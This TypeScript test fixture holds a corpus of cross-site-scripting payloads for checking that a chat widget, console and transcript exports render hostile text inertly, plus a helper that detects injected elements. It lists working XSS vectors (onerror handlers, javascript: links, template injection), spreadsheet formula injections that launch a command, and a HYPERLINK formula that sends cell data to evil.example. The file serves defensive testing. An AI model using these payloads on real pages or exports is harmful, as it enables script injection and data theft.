// One list of hostile strings for every XSS test (widget, console, transcript exports). Each one
// that would run script calls the hook `window.__xss` (or sets it on parent/top), so a test
// proves nothing ran by finding the hook unset in every frame. Kept under 100 characters so each
// fits every field it is sent as (visitor and agent names, custom fields, tags, site names).

export const XSS_HOOK = "__xss";

export const XSS_CORPUS: readonly string[] = [
  // The console test uses the first six by position for particular fields: keep them first.
  `<img src=x onerror="window.__xss=(window.__xss||0)+1">`,
  `<script>window.__xss=1</script>`,
  `"><svg onload="window.__xss=1"></svg>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<a href="javascript:window.__xss=1">click me</a>`,
  `{{constructor.constructor('window.__xss=1')()}}`,
  // right-to-left override: shown as-is (its letters reversed on screen), never as markup
  `\u202Egnp.<img src=x onerror="window.__xss=1">exe`,
  `\u2067\u202Etxt.exe\u2069 <b onclick="window.__xss=1">isolate</b>`,
  // closing the page's own script or style element, if text were ever written into one
  `</script><script>window.__xss=1</script>`,
  `</style><img src=x onerror="window.__xss=1">`,
  `<svg><animate onbegin="window.__xss=1" attributeName="x" dur="1s"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">`,
  `<details open ontoggle="window.__xss=1">toggle</details>`,
  `<a href="jav&#x09;ascript:window.__xss=1">tab in scheme</a>`,
  `javascript:window.__xss=1`,
  `JaVaScRiPt:window.__xss=1//https://example.com`,
  `https://example.com/"onmouseover="window.__xss=1"x="`,
  `data:text/html,<script>parent.__xss=1</script>`,
  // template injection (Angular/Vue/Handlebars, JS template literals, ERB)
  "${window.__xss=1} <%= 7*7 %> {{7*7}} #{7*7}",
  // spreadsheet formulas: a CSV cell must never start with = + - @
  `=HYPERLINK("https://evil.example/?d="&A1,"Click me")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
];

/**
 * Text that is not Unicode (lone surrogates), or that PostgreSQL cannot store (NUL): refused at
 * the door, never stored or shown.
 */
export const ILL_FORMED: readonly string[] = ["lone high \uD800 surrogate", "lone low \uDC00 surrogate", "\uDFFF\uD800 reversed pair", "a NUL \u0000 inside"];

/**
 * For page.evaluate / frame.evaluate (serialised, so self-contained): the hook in that window,
 * elements under `root` no text could have created, and javascript:/data: links.
 */
export function inertState(root: string): { hook: string | null; injected: string[]; jsLinks: number } {
  const hook = (window as unknown as Record<string, unknown>).__xss;
  const scope = document.querySelector(root) ?? document.body;
  const made = "img[src=x], script:not([src]), svg animate, math, iframe[srcdoc], details[ontoggle], [onerror], [onload], [onclick], [onmouseover], [onbegin]";
  return {
    hook: hook === undefined ? null : String(hook),
    injected: [...scope.querySelectorAll(made)].map((el) => el.outerHTML.slice(0, 80)),
    jsLinks: [...scope.querySelectorAll("a[href]")].filter((a) => /^\s*(javascript|data):/i.test(a.getAttribute("href") ?? "")).length,
  };
}
